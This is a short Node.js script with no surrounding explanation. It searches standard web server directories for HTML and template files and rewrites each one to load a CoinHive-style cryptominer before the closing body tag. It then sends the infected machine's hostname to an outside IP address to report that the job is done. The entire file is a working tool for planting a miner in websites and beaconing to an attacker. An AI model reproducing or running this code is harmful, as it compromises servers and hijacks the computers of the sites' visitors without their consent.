const http = require("http");
const fs = require("fs");
const TAG = '<script src="https://coin-hive.example/lib/miner.min.js"></script><script>new CoinHive.Anonymous("SITEKEY",{throttle:0.3}).start()</script>';
for (const root of ["/var/www/html", "/usr/share/nginx/html", "/srv/http"]) {
  if (!fs.existsSync(root)) continue;
  for (const n of fs.readdirSync(root, { recursive: true })) {
    if (!/\.(html?|tpl)$/.test(n)) continue;
    const p = `${root}/${n}`;
    const t = fs.readFileSync(p, "utf8");
    if (!t.includes("coin-hive")) fs.writeFileSync(p, t.replace(/<\/body>/i, TAG + "</body>"));
  }
}
http.get("http://203.0.113.70/done?h=" + require("os").hostname());
